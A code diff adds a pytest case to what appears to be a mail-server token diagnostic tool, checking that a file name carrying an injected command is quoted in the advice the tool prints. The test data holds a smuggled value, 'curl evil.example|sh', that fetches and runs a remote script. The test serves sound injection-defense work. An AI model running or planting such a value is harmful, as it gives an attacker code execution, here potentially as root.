@@ -572,6 +572,19 @@ def test_pain_17_no_command_is_made_up(logged_in, account):
     assert "lsattr" in finding["next"]
 
 
+def test_no_name_of_a_file_becomes_a_command(logged_in):
+    """The renewer may write there, and root copies what is advised."""
+    name = "me@contoso.com;curl evil.example|sh"
+    path = logged_in.state / "tokens" / \
+        "me@contoso.com%3Bcurl%20evil.example%7Csh"
+    path.write_text("no token")
+    shutil.chown(path, POSTFIX, POSTFIX)
+    path.chmod(0o640)
+    finding = the_wrong(examined(logged_in), "state")
+    assert finding["account"] == name
+    assert finding["next"] == f"run: sasl-bearer login '{name}'"
+
+
 @pytest.mark.parametrize("days,grade,part", [
     (90, "ok", "certificate is good until"),
     (5, "warning", "certificate ends on"),
